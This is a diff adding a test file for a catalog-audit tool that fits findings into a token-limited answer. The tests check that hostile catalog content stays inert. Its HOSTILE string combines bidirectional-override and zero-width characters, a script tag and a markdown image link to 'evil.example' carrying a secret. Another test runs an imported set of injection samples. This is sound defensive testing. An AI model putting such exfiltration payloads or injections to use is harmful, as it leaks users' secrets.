@@ -1,0 +1,105 @@
+/** DESIGN §5: what catalogs hold reaches an audit's answer as data only. */
+import { describe, expect, it } from 'vitest';
+import { countTokens } from '../../src/answer/budget.ts';
+import { type Audit, runAudit, type Verdict } from '../../src/snapshot/audit/audit.ts';
+import { RULES } from '../../src/snapshot/audit/rules.ts';
+import { fitAudit } from '../../src/tools/audit-answer.ts';
+import { openRecords } from '../snapshot/audit/open-records.ts';
+import { findActive, INJECTIONS, stringsOf } from '../support/injections.ts';
+
+const SECRET = 'key-4711-secret';
+const HOSTILE = `A\u202e\u200b<script>alert(1)</script> ![x](https://evil.example/${SECRET}) ${'long '.repeat(60)}`;
+
+const verdicts = RULES.map(
+  (rule, index): Verdict => ({
+    rule,
+    population: 1_000_000,
+    failed: 900_000 - index,
+    unknown: 100,
+    kinds: new Map([[HOSTILE, 5]]),
+    examples: Array.from({ length: 100 }, (_, id) => ({ id, code: HOSTILE.slice(0, 90), detail: HOSTILE })),
+  }),
+);
+
+const audit: Audit = {
+  verdicts,
+  notRun: RULES.slice(0, 5),
+  score: 12.3,
+  scores: Array.from({ length: 500 }, (_, index) => ({ name: `${HOSTILE}${index}`, score: index / 5, failed: index })),
+  unmatched: { categories: Array.from({ length: 50 }, () => 'x'.repeat(500)), brands: [] },
+  copy: {
+    asOf: '2026-03-01T08:00:00Z',
+    complete: false,
+    lists: { products: { records: 5, complete: false, note: 'n'.repeat(300) } },
+  },
+  version: 'one',
+};
+
+const view = {
+  offset: 0,
+  batch: 1,
+  hash: 'abcdef',
+  scoredBy: 'category',
+  maxExamples: 100,
+  isExplained: true,
+} as const;
+
+/** Takes the secret out, wherever it is. */
+function redact<Value>(value: Value): Value {
+  return JSON.parse(JSON.stringify(value).replaceAll(SECRET, '[redacted]'));
+}
+
+describe.each([200, 400, 1_000, 3_000, 8_000])('within %i tokens', (maxTokens) => {
+  const answer = fitAudit(audit, view, { maxTokens, source: 'sandbox', redact });
+  const written = JSON.stringify(answer);
+
+  it('the answer fits, with one finding at least', () => {
+    expect(countTokens(answer)).toBeLessThanOrEqual(maxTokens);
+    expect(answer.returned).toBeGreaterThanOrEqual(1);
+    expect(answer.total).toBe(RULES.length);
+  });
+
+  it('nothing in it hides, runs or loads', () => {
+    expect(written).not.toMatch(/[\u202e\u200b]|<script|!\[x\]\(/);
+    expect(written).not.toContain(SECRET);
+  });
+});
+
+it('names the rules that were not run, once, and says so on every page', () => {
+  const first = fitAudit(audit, view, { maxTokens: 8_000, source: undefined, redact });
+  const second = fitAudit(audit, { ...view, offset: 40 }, { maxTokens: 8_000, source: undefined, redact });
+  expect(first.not_run).toEqual(RULES.slice(0, 5).map(({ id }) => id));
+  expect(second).not.toHaveProperty('not_run');
+  expect(stringsOf(second.warnings).join(' ')).toContain('not_run');
+});
+
+it('shows as many examples as there is room for, alike for all rules', () => {
+  const { findings, columns } = fitAudit({ ...audit, verdicts: verdicts.slice(0, 10) }, view, {
+    maxTokens: 8_000,
+    source: undefined,
+    redact,
+  });
+  const at = (columns as readonly string[]).findIndex((head) => head.startsWith('examples'));
+  const shown = (findings as readonly (readonly unknown[])[]).map((row) => (row[at] as readonly unknown[]).length);
+  expect(new Set(shown).size).toBe(1);
+  expect(shown[0]).toBeGreaterThanOrEqual(1);
+});
+
+it.each(Object.entries(INJECTIONS))('%s in a whole catalog stays inert', async (_trick, text) => {
+  const product = (ProductId: number) => ({
+    ProductId,
+    Code: text,
+    Name: text,
+    ShortDescription: text,
+    Link: text,
+    Codes: [{ CodeType: 'EAN', Value: text }],
+    CategoryProducts: [{ CategoryId: 1, Name: text }],
+    Translations: [{ Culture: 'de', Name: text }],
+  });
+  const snapshot = await openRecords({ products: [product(1), product(2)], variants: [] });
+  const asked = { rules: RULES, scope: {}, scoredBy: 'category', maxExamples: 5, isOver: () => false } as const;
+  const found = await runAudit({ ...asked, signal: new AbortController().signal }, snapshot);
+  const answer = fitAudit(found, view, { maxTokens: 8_000, source: undefined, redact });
+  expect(stringsOf(answer.findings)).toContain('malformed_link');
+  expect(findActive(answer)).toEqual([]);
+});
